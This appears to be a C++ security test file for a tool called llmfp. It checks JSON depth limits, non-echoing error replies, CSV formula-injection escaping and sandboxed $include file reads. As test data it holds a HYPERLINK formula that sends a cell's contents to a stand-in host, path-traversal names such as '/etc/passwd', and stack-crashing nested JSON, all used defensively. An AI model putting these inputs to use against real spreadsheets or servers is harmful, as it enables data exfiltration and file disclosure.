// Hostile input (docs/security.md): the JSON parser's limits, errors that do not echo
// what they were given, import's inner text, CSV formula injection, and the CLI's
// $include rules (traversal, symlinks, devices, pipes, size, depth), each an attack that
// once worked.
#include <fcntl.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>

#include <catch2/catch.hpp>
#include <sys/stat.h>
#include <sys/wait.h>

#include "include_files.hpp"
#include "llmfp/api.hpp"
#include "llmfp/measurements.hpp"
#include "support.hpp"

using llmfp::json;

namespace {

json handle_text(const std::string& text) { return json::parse(llmfp::handle(text)); }

std::string nested(int depth, const std::string& inner = "1") {
  return std::string(static_cast<std::size_t>(depth), '[') + inner +
         std::string(static_cast<std::size_t>(depth), ']');
}

/// A fresh folder under /tmp with a "req" folder for requests and a secret next to it.
struct Sandbox {
  std::string dir;
  Sandbox() {
    char tmpl[] = "/tmp/llmfp-sec-XXXXXX";
    dir = ::mkdtemp(tmpl);
    ::mkdir((dir + "/req").c_str(), 0700);
    write("secret.json", R"({"password": "hunter2"})");
    write("secret.txt", "hunter2 is not JSON");
  }
  Sandbox(const Sandbox&) = delete;
  Sandbox& operator=(const Sandbox&) = delete;
  ~Sandbox() { std::system(("rm -rf '" + dir + "'").c_str()); }
  void write(const std::string& rel, const std::string& text) const {
    std::ofstream(dir + "/" + rel, std::ios::binary) << text;
  }
  std::string req() const { return dir + "/req"; }
};

/// "code at path: message" of resolving {"x": {"$include": name}} in the sandbox's req/.
std::string include_error(const Sandbox& s, const std::string& name, json* out = nullptr,
                          const std::string& base = "") {
  json request = {{"x", {{"$include", name}}}};
  try {
    llmfp::cli::resolve_includes(request, base.empty() ? s.req() : base);
  } catch (const llmfp::InputError& e) {
    return e.issue().code + " at " + e.issue().path + ": " + e.issue().message;
  }
  if (out) *out = request;
  return "ok";
}

}  // namespace

TEST_CASE("security: trailing bytes after the JSON value are a parse_error", "[api][security]") {
  // nlohmann stops at a NUL byte as if the text ended there.
  const std::string with_nul = std::string(R"({"op":"version"})") + '\0' + "garbage";
  CHECK(handle_text(with_nul)["error"]["code"] == "parse_error");
  CHECK(handle_text(R"({"op":"version"} {"op":"version"})")["error"]["code"] == "parse_error");
  CHECK(handle_text(R"({"op":"version"} x)")["error"]["code"] == "parse_error");
  CHECK(handle_text(" {\"op\":\"version\"} \r\n\t")["ok"] == true);  // whitespace is fine
}

TEST_CASE("security: nesting is limited at 64 levels before any value is built",
          "[api][security]") {
  const auto depth_64 = handle_text(nested(llmfp::kMaxJsonDepth));
  CHECK(depth_64["error"]["code"] == "wrong_type");  // parsed: the request is not an object
  const auto depth_65 = handle_text(nested(llmfp::kMaxJsonDepth + 1));
  CHECK(depth_65["error"]["code"] == "too_large");
  CHECK(depth_65["error"]["path"] ==
        "/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/"
        "0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0/0");
  // A million levels, and brackets inside strings that do not count.
  CHECK(handle_text(nested(1000000))["error"]["code"] == "too_large");
  CHECK(handle_text(R"({"op": "version", "x": ")" + std::string(1000, '[') +
                    "\"}")["error"]["code"] == "unknown_field");
}

TEST_CASE("security: error replies do not echo large or unrelated input", "[api][security]") {
  const std::string huge(1000000, 'A');
  for (const std::string& text :
       {R"({"op": ")" + huge + "\"}", R"({"op": "version", ")" + huge + "\": 1}",
        R"({"op": "estimate", "method": {"estimator": ")" + huge + "\"}}"}) {
    const std::string reply = llmfp::handle(text);
    INFO(reply.substr(0, 300));
    CHECK(json::parse(reply)["ok"] == false);
    const std::string message = json::parse(reply)["error"]["message"];
    CHECK(message.size() < 700);
    CHECK(message.find(std::string(100, 'A')) == std::string::npos);
    CHECK(json::parse(reply)["op"].dump().size() < 100);
  }
  // The path stays an exact pointer into the request (a key is part of it).
  CHECK(handle_text(R"({"op": "version", ")" + huge + "\": 1}")["error"]["path"] == "/" + huge);
  // An object where "op" belongs (e.g. a file the CLI included) is not sent back.
  const auto r = handle_text(R"({"op": {"password": "hunter2"}})");
  CHECK(r["error"]["code"] == "wrong_type");
  CHECK(r["op"].is_null());
  CHECK(r.dump().find("hunter2") == std::string::npos);
  // A cut never splits a UTF-8 character: "é" is 2 bytes.
  std::string accents;
  for (int i = 0; i < 100; ++i) accents += "\xc3\xa9";
  CHECK(llmfp::truncated(accents, 5) == "\xc3\xa9\xc3\xa9\xe2\x80\xa6");
  CHECK(llmfp::quote_input("short") == "\"short\"");
}

TEST_CASE("security: import's inner JSON text has the request's limits", "[import][security]") {
  const auto import = [](const std::string& text) {
    return llmfp::test::call({{"op", "import"}, {"text", text}});
  };
  // 200,000 levels crashed the native engine (stack overflow in the recursive parse).
  const auto deep = import(nested(200000));
  CHECK(deep["error"]["code"] == "too_large");
  CHECK(deep["error"]["path"] == "/text");
  const auto big = import(R"({"models": [{"model": "M", "p_gpu_kw": 1e400}]})");
  CHECK(big["error"]["code"] == "not_finite");
  CHECK(big["error"]["path"] == "/text");
  CHECK(big["error"]["message"].get<std::string>().find("p_gpu_kw") != std::string::npos);
  const auto nul = import(std::string("[]") + '\0' + "x");
  CHECK(nul["error"]["code"] == "invalid_value");
}

TEST_CASE("security: CSV export guards text a spreadsheet would run as a formula",
          "[import][security]") {
  using llmfp::test::call;
  using llmfp::test::load_json;
  json dataset = load_json("public/data/paper-v6/2025-10-26.json");
  const std::string evil = R"(=HYPERLINK("http://x.example/?"&A1,"click"))";
  dataset["models"][0]["model"] = evil;
  dataset["models"][1]["model"] = "@SUM(1+1)";
  dataset["models"][2]["model"] = "-2+3";
  const json exported = call({{"op", "export"}, {"dataset", dataset}});
  REQUIRE(exported["ok"] == true);
  const std::string csv = exported["result"]["csv"].get<std::string>();
  // Each line's first cell is the model: none may start with = + - @ (RFC 4180 quoting
  // may come first, so look inside the quotes too).
  std::size_t start = 0;
  int lines = 0;
  while (start < csv.size()) {
    const std::size_t end = csv.find('\n', start);
    std::string first = csv.substr(start, csv.find(',', start) - start);
    if (!first.empty() && first[0] == '"') first.erase(0, 1);
    CHECK_FALSE(llmfp::measurements::formula_like(first));
    start = end == std::string::npos ? csv.size() : end + 1;
    ++lines;
  }
  CHECK(lines > 3);
  CHECK(csv.find(R"csv("'=HYPERLINK(""http://x.example/?""&A1,""click"")")csv") !=
        std::string::npos);
  // Imported again, the names are what they were.
  const json back = call({{"op", "import"},
                          {"text", csv},
                          {"hardware", load_json("public/data/hardware/v6.json")},
                          {"hosts", load_json("public/data/hosts/v6.json")}});
  REQUIRE(llmfp::test::error_of(back) == "ok");
  std::vector<std::string> names;
  for (const auto& m : back["result"]["dataset"]["models"]) names.push_back(m["model"]);
  CHECK(std::count(names.begin(), names.end(), evil) == 1);
  CHECK(std::count(names.begin(), names.end(), "@SUM(1+1)") == 1);
  CHECK(std::count(names.begin(), names.end(), "-2+3") == 1);
}

TEST_CASE("security: $include reads only regular files inside the request's folder",
          "[cli][security]") {
  const Sandbox s;
  s.write("req/ok.json", R"({"a": [1, 2]})");
  json out;
  REQUIRE(include_error(s, "ok.json", &out) == "ok");
  CHECK(out == json::parse(R"({"x": {"a": [1, 2]}})"));

  // Traversal, absolute paths and a symlink out of the folder: refused like a missing
  // file (nothing tells which files exist elsewhere), and the secret is never echoed.
  ::symlink((s.dir + "/secret.json").c_str(), (s.req() + "/link.json").c_str());
  for (const std::string& name : std::vector<std::string>{
           "../secret.json", "../secret.txt", s.dir + "/secret.json", "link.json", "missing.json",
           "../req/../secret.json", "/etc/passwd"}) {
    const std::string e = include_error(s, name);
    INFO(name << " -> " << e);
    CHECK(e.rfind("unknown_value at /x/$include: $include ", 0) == 0);
    CHECK(e.find("no such file in the request's folder") != std::string::npos);
    CHECK(e.find("hunter2") == std::string::npos);
  }
  // A symlink inside the folder to a file inside it is fine (real paths are compared).
  ::symlink((s.req() + "/ok.json").c_str(), (s.req() + "/alias.json").c_str());
  CHECK(include_error(s, "alias.json") == "ok");

  // Devices, folders and named pipes are refused without reading (a pipe would block).
  ::symlink("/dev/zero", (s.req() + "/zero.json").c_str());
  CHECK(include_error(s, "zero.json").rfind("unknown_value", 0) == 0);  // outside the folder
  CHECK(include_error(s, "zero", nullptr, "/dev").rfind("invalid_value at /x/$include", 0) == 0);
  CHECK(include_error(s, "null", nullptr, "/dev").rfind("invalid_value", 0) == 0);
  REQUIRE(::mkfifo((s.req() + "/pipe.json").c_str(), 0600) == 0);
  CHECK(include_error(s, "pipe.json").rfind("invalid_value at /x/$include", 0) == 0);
  ::mkdir((s.req() + "/sub").c_str(), 0700);
  CHECK(include_error(s, "sub").rfind("invalid_value", 0) == 0);
  s.write("req/sub/inner.json", "[3]");
  CHECK(include_error(s, "sub/inner.json") == "ok");
}

TEST_CASE("security: $include limits size and depth and does not echo the file",
          "[cli][security]") {
  const Sandbox s;
  // A sparse file one byte over the limit: refused from its size, not read.
  const std::string big = s.req() + "/big.json";
  REQUIRE(::truncate((std::ofstream(big), big).c_str(),
                     static_cast<off_t>(llmfp::kMaxRequestBytes + 1)) == 0);
  CHECK(include_error(s, "big.json").rfind("too_large at /x/$include", 0) == 0);

  s.write("req/text.json", "hunter2 is not JSON");
  const std::string bad = include_error(s, "text.json");
  CHECK(bad.rfind("parse_error at /x/$include", 0) == 0);
  CHECK(bad.find("hunter2") == std::string::npos);

  s.write("req/inf.json", R"({"p_gpu_kw": 1e400})");
  CHECK(include_error(s, "inf.json").rfind("not_finite at /x/p_gpu_kw:", 0) == 0);

  // Included at depth 1 ({"x": here}), a file may nest 63 levels, not 64.
  s.write("req/deep63.json", nested(llmfp::kMaxJsonDepth - 1));
  s.write("req/deep64.json", nested(llmfp::kMaxJsonDepth));
  s.write("req/deep.json", nested(200000));
  CHECK(include_error(s, "deep63.json") == "ok");
  CHECK(include_error(s, "deep64.json").rfind("too_large", 0) == 0);
  CHECK(include_error(s, "deep.json").rfind("too_large", 0) == 0);
}

TEST_CASE("security: the CLI answers a deep or hostile request with an envelope",
          "[cli][security]") {
  const Sandbox s;
  s.write("req/data.json", "[1]");
  s.write("req/deep.json",
          R"({"op": "version", "x": )" + nested(100000, R"({"$include": "data.json"})") + "}");
  s.write("req/trav.json", R"({"op": {"$include": "../secret.json"}})");
  REQUIRE(::mkfifo((s.req() + "/pipe.json").c_str(), 0600) == 0);
  s.write("req/pipe-req.json", R"({"op": {"$include": "pipe.json"}})");
  // 1e400 beside an $include: nlohmann's out_of_range escaped the CLI (no JSON reply).
  s.write("req/inf.json", R"({"op": "scale", "x": {"$include": "data.json"}, "q": 1e400})");
  const auto run = [&](const std::string& file) {
    const std::string out = s.dir + "/out.txt";
    const int status = std::system(
        ("timeout 20 " LLMFP_FOOTPRINT " '" + s.req() + "/" + file + "' > '" + out + "'").c_str());
    std::ifstream in(out);
    std::string reply((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    return std::make_pair(WEXITSTATUS(status), reply);
  };
  for (const auto& [file, code] : {std::pair<std::string, std::string>{"deep.json", "too_large"},
                                   {"trav.json", "unknown_value"},
                                   {"pipe-req.json", "invalid_value"},
                                   {"inf.json", "not_finite"}}) {
    const auto [status, reply] = run(file);
    INFO(file << " -> " << status << " " << reply);
    CHECK(status == 1);  // an error reply, not a crash (139) or a timeout (124)
    REQUIRE_FALSE(reply.empty());
    CHECK(json::parse(reply)["error"]["code"] == code);
    CHECK(reply.find("hunter2") == std::string::npos);
  }
}

TEST_CASE("security: rank of thousands of models says so in rank's terms", "[rank][security]") {
  // Ranking 5,000 imported models answered 'set "return_matrix": false', a field of the
  // dea op that a rank request or a visitor never sees. Every size limit of the DEA goes
  // through the same rewording; game cross-efficiency's (40 DMUs) is the fast one to hit
  // (the 1,000-model one costs seconds of estimates first).
  json dataset = llmfp::test::load_json("public/data/paper-v6/2025-10-26.json");
  json model = dataset["models"][0];
  model["aa_intelligence_index"] = 50;
  dataset["models"] = json::array();
  for (int i = 0; i < 41; ++i) {
    model["model"] = "M" + std::to_string(i);
    dataset["models"].push_back(model);
  }
  const json r =
      llmfp::test::call({{"op", "rank"}, {"dataset", dataset}, {"model", {{"type", "game"}}}});
  INFO(r.dump().substr(0, 400));
  CHECK(r["error"]["code"] == "too_large");
  CHECK(r["error"]["path"] == "/dataset/models");
  const std::string message = r["error"]["message"];
  CHECK(message.find("ranking 41 models at once") != std::string::npos);
  CHECK(message.find("return_matrix") == std::string::npos);
  CHECK(message.find("DMU") == std::string::npos);
}
